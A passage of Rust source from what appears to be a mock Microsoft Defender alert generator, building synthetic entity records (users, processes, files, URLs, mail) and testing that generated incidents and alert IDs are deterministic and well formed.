    Url,
    MailBox,
    MailMessage,
}

impl EntityKind {
    pub(crate) fn name(self) -> &'static str {
        match self {
            EntityKind::User => "User",
            EntityKind::Process => "Process",
            EntityKind::File => "File",
            EntityKind::Ip => "Ip",
            EntityKind::Url => "Url",
            EntityKind::MailBox => "MailBox",
            EntityKind::MailMessage => "MailMessage",
        }
    }
}

/// One entity of an alert: its kind and its non-null fields, in the flat M365 Defender / MDE
/// vocabulary (`sha1`, `fileName`, `processId`, `accountName`, ...).
pub(crate) struct Entity {
    pub kind: EntityKind,
    pub fields: Vec<(&'static str, Value)>,
}

impl Entity {
    pub(crate) fn get(&self, name: &str) -> Value {
        self.fields
            .iter()
            .find(|(key, _)| *key == name)
            .map_or(Value::Null, |(_, value)| value.clone())
    }
}

fn user_fields(user: &Person, domain: Option<&str>) -> Vec<(&'static str, Value)> {
    vec![
        ("accountName", json!(user.account)),
        ("domainName", json!(domain)),
        ("userSid", json!(user.sid)),
        ("aadUserId", json!(user.aad_id)),
        ("userPrincipalName", json!(user.upn)),
    ]
}

/// The entities of an alert, most important first.
pub(crate) fn entities(alert: &AlertFacts) -> Vec<Entity> {
    let user = &alert.user;
    let mut list = Vec::new();
    match alert.kind.artifact {
        Artifact::Process {
            file,
            path,
            command,
            parent,
            parent_path,
        } => {
            list.push(Entity {
                kind: EntityKind::User,
                fields: user_fields(user, Some("CORP")),
            });
            list.push(Entity {
                kind: EntityKind::Process,
                fields: vec![
                    ("sha1", json!(alert.sha1)),
                    ("sha256", json!(alert.sha256)),
                    ("fileName", json!(file)),
                    ("filePath", json!(path)),
                    ("processId", json!(alert.process_id)),
                    ("processCommandLine", json!(command)),
                    (
                        "processCreationTime",
                        json!(time::format(alert.first_activity)),
                    ),
                    ("parentProcessId", json!(alert.parent_process_id)),
                    (
                        "parentProcessCreationTime",
                        json!(time::format(alert.first_activity - 73 * TICKS_PER_SECOND)),
                    ),
                    ("parentProcessFileName", json!(parent)),
                    ("parentProcessFilePath", json!(parent_path)),
                    ("detectionStatus", json!("Detected")),
                ],
            });
        }
        Artifact::File { file, folder } => {
            list.push(Entity {
                kind: EntityKind::File,
                fields: vec![
                    ("sha1", json!(alert.sha1)),
                    ("sha256", json!(alert.sha256)),
                    ("fileName", json!(file)),
                    (
                        "filePath",
                        json!(format!("C:\\Users\\{}\\{folder}", user.account)),
                    ),
                    ("detectionStatus", json!("Prevented")),
                ],
            });
            list.push(Entity {
                kind: EntityKind::User,
                fields: user_fields(user, Some("CORP")),
            });
        }
        Artifact::Network { url } => {
            list.push(Entity {
                kind: EntityKind::Url,
                fields: vec![("url", json!(url))],
            });
            list.push(Entity {
                kind: EntityKind::Ip,
                fields: vec![("ipAddress", json!(alert.ip))],
            });
        }
        Artifact::Mail {
            subject,
            sender,
            url,
        } => {
            list.push(Entity {
                kind: EntityKind::MailBox,
                fields: vec![
                    ("accountName", json!(user.account)),
                    ("userSid", json!(user.sid)),
                    ("aadUserId", json!(user.aad_id)),
                    ("userPrincipalName", json!(user.upn)),
                    ("mailboxDisplayName", json!(user.display)),
                    ("mailboxAddress", json!(user.upn)),
                ],
            });
            list.push(Entity {
                kind: EntityKind::MailMessage,
                fields: vec![
                    ("userPrincipalName", json!(user.upn)),
                    ("sender", json!(sender)),
                    ("recipient", json!(user.upn)),
                    ("subject", json!(subject)),
                    ("deliveryAction", json!("Delivered")),
                ],
            });
            list.push(Entity {
                kind: EntityKind::Url,
                fields: vec![("url", json!(url))],
            });
        }
        Artifact::SignIn => {
            list.push(Entity {
                kind: EntityKind::User,
                fields: user_fields(user, Some("CORP")),
            });
            list.push(Entity {
                kind: EntityKind::Ip,
                fields: vec![("ipAddress", json!(alert.ip))],
            });
        }
    }
    list
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::defender::config::DataConfig;

    fn tenant() -> TenantData {
        TenantData::new(
            "22222222-2222-4222-8222-222222222222".into(),
            "contoso.com".into(),
            DataConfig {
                incidents: 300,
                mde_alerts: 500,
                seed: 3,
                ..DataConfig::default()
            },
            time::now(),
        )
    }

    #[test]
    fn facts_are_deterministic_and_varied() {
        let data = tenant();
        let mut statuses = std::collections::HashSet::new();
        for index in 0..300 {
            let a = incident(&data, index);
            let b = incident(&data, index);
            assert_eq!(
                (a.name, a.status, a.severity),
                (b.name, b.status, b.severity)
            );
            statuses.insert(a.status);
            if a.status == "Redirected" {
                assert_eq!(a.redirect_to, Some(a.id + 1));
                assert!(a.alerts.is_empty());
            }
        }
        assert_eq!(statuses.len(), 4, "{statuses:?}");
    }

    #[test]
    fn alert_ids_follow_their_source() {
        let data = tenant();
        let mde = alert(&data, Rec::Mde(10));
        assert!(mde.id.starts_with("da"), "{}", mde.id);
        let (ticks, number) = mde.id[2..].split_once('_').unwrap();
        assert_eq!(ticks.len(), 18);
        assert!(number.parse::<i32>().is_ok());
        assert!(mde.device.is_some());
        let mut ids = std::collections::HashSet::new();
        for j in 0..500 {
            assert!(ids.insert(alert(&data, Rec::Mde(j)).id));
        }
        for i in 0..300 {
            let facts = alert(&data, Rec::Extra(i));
            assert_ne!(facts.kind.service, Service::Endpoint);
            assert!(facts.id.ends_with(&facts.provider_id));
        }
    }

    #[test]
    fn enums_become_camel_case() {
        assert_eq!(camel("InProgress"), "inProgress");
        assert_eq!(camel("TruePositive"), "truePositive");
    }
}
